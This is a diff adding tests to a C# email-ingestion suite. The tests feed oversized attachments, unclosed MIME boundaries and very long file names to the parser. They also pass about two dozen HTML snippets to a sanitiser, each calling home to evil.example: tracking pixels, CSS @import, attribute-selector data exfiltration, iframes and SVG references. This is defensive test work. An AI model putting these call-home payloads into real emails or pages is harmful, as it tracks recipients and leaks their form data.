@@ -72,6 +72,47 @@ internal sealed class HostileMailTests
     }
 
     [Test]
+    public void Map_AttachmentOfTwoHundredMegabytes_AllocatesNothingOfItsSize()
+    {
+        var head = Ascii(Head + "Content-Type: multipart/mixed; boundary=p\r\n\r\n--p\r\n\r\nhola\r\n--p\r\nContent-Type: video/mp4; name=a.mp4\r\nContent-Transfer-Encoding: base64\r\n\r\n");
+        var mail = new byte[head.Length + (200 << 20)];
+        mail.AsSpan().Fill((byte)'A');
+        head.CopyTo(mail, 0);
+        var raw = new RawInbound { Account = new AccountName("mail"), Channel = "email", ExternalId = "1", ReceivedAt = DateTimeOffset.UnixEpoch.AddYears(55), Body = mail };
+        var message = ((Normalised.Message)EmailInboundMapper.Map(raw, EmailMapping.None, file => new KeptFile(new string('0', 64), file.Name.Length))).Value;
+        Assert.That(message.Text, Is.EqualTo("hola"));
+        Assert.That(ContentReader.Read(MimeReader.Read(mail)).Files.Single().Size, Is.EqualTo((200L << 20) / 4 * 3));
+        Assert.That(Allocated(() => EmailInboundMapper.Map(raw, EmailMapping.None, file => new KeptFile(new string('0', 64), file.Name.Length))), Is.LessThan(200_000));
+    }
+
+    [Test]
+    public void Map_BoundaryThatNeverCloses_GivesAllThatIsThere()
+    {
+        var message = Map(Ascii(Head + "Content-Type: multipart/mixed; boundary=p\r\n\r\n--p\r\n\r\nhola\r\n--p\r\nContent-Type: application/pdf; name=a.pdf\r\n\r\n%PDF\r\n--not\r\n--p x\r\n"));
+        Assert.That(message.Text, Is.EqualTo("hola"));
+        Assert.That(message.Attachments.Single(), Has.Property("Name").EqualTo("a.pdf").And.Property("Size").EqualTo(20));
+    }
+
+    [Test]
+    public void Map_LinesThatLookLikeDelimiters_AllocateInProportion()
+    {
+        var mail = Ascii(Head + "Content-Type: multipart/mixed; boundary=p\r\n\r\n--p\r\n\r\n" + string.Concat(Enumerable.Repeat("--pp\r\n", 100_000)));
+        Assert.That(Allocated(() => MimeReader.Read(mail)), Is.LessThan(10_000));
+        Assert.That(MimeReader.Read(mail).Parts, Has.Length.EqualTo(2));
+    }
+
+    [Test]
+    public void Map_FileNamesOfFourThousandCharacters_AreShort()
+    {
+        var name = new string('n', 4000) + ".pdf";
+        foreach (var field in new[] { $"filename=\"{name}\"", $"filename*=utf-8''{string.Concat(Enumerable.Repeat("%C3%B1", 4000))}.pdf", string.Join(";\r\n ", Enumerable.Range(0, 60).Select(i => $"filename*{i}={new string('n', 70)}")) })
+        {
+            var message = Map(Ascii(Head + $"Content-Type: application/pdf\r\nContent-Disposition: attachment; {field}\r\n\r\n%PDF\r\n"));
+            Assert.That(message.Attachments.Single().Name, Has.Length.LessThanOrEqualTo(FileNames.MaxLength));
+        }
+    }
+
+    [Test]
     public void Map_HeaderLineOfAMegabyte_IsCut()
     {
         var mail = Ascii("From: a@customer.example\r\nSubject: " + new string('x', 1 << 20) + "\r\nX-After: 1\r\n\r\nhola\r\n");
@@ -174,6 +215,37 @@ internal sealed class HostileMailTests
         var safe = HtmlBody.Parse(html).Sanitised(new HashSet<string>());
         Assert.That(safe, Does.Contain("x"));
         Assert.That(safe, Does.Not.Match("(?i)script:|url\\(|expression|position|evil|\\b(id|name|class)="));
+        MailFuzzTests.AssertSafe(safe);
+    }
+
+    [TestCase("<img src=\"https://evil.example/p.gif?u=1\" width=1 height=1>x", Description = "tracking pixel")]
+    [TestCase("<img src=\"cid:nobody\" srcset=\"https://evil.example/p.gif 2x\">x")]
+    [TestCase("<picture><source srcset=\"https://evil.example/p.webp\"><img src=\"//evil.example/p.png\"></picture>x")]
+    [TestCase("<table background=\"https://evil.example/p.gif\"><tr><td background=//evil.example/p.gif>x</td></tr></table>")]
+    [TestCase("<body background=\"https://evil.example/p.gif\" bgproperties=fixed>x</body>")]
+    [TestCase("<style>@import 'https://evil.example/a.css'; input[value^=a]{background:url(https://evil.example/a)}</style>x", Description = "CSS exfiltration")]
+    [TestCase("<p style=\"background-image:url(https://evil.example/p)\">x</p>")]
+    [TestCase("<p style=\"background-color:image-set('https://evil.example/p' 1x)\">x</p>")]
+    [TestCase("<p style=\"border:1px solid;border-image:url(https://evil.example/p) 30\">x</p>")]
+    [TestCase("<p style=\"color:red;list-style:url(https://evil.example/p)\">x</p>")]
+    [TestCase("<p style=\"font-family:a;src:url(https://evil.example/f.woff)\">x</p>")]
+    [TestCase("<p style=\"color:/**/url(https://evil.example/p)\">x</p>")]
+    [TestCase("<p style=\"color:var(--x,url(https://evil.example/p))\">x</p>")]
+    [TestCase("<a href=\"#\" ping=\"https://evil.example/ping\">x</a>")]
+    [TestCase("<link rel=dns-prefetch href=//evil.example>x")]
+    [TestCase("<video poster=//evil.example/p.png src=//evil.example/v></video>x")]
+    [TestCase("<audio src=//evil.example/a autoplay></audio>x")]
+    [TestCase("<iframe src=//evil.example></iframe>x")]
+    [TestCase("<object data=//evil.example></object><embed src=//evil.example>x")]
+    [TestCase("<input type=image src=//evil.example/p.png>x")]
+    [TestCase("<svg><image href=//evil.example/p.png /><use href=//evil.example/u /></svg>x")]
+    [TestCase("<v:fill type=tile src=https://evil.example/p.png /><v:image src=https://evil.example/p.png />x")]
+    [TestCase("<font face=\"url(https://evil.example/f)\">x</font>")]
+    [TestCase("<blockquote cite=\"https://evil.example/c\">x</blockquote>")]
+    public void Sanitised_WaysToCallHome_AreGone(string html)
+    {
+        var safe = HtmlBody.Parse(html).Sanitised(new HashSet<string> { "here@x" });
+        Assert.That(safe, Does.Contain("x").And.Not.Contains("evil"));
         MailFuzzTests.AssertSafe(safe);
     }
 
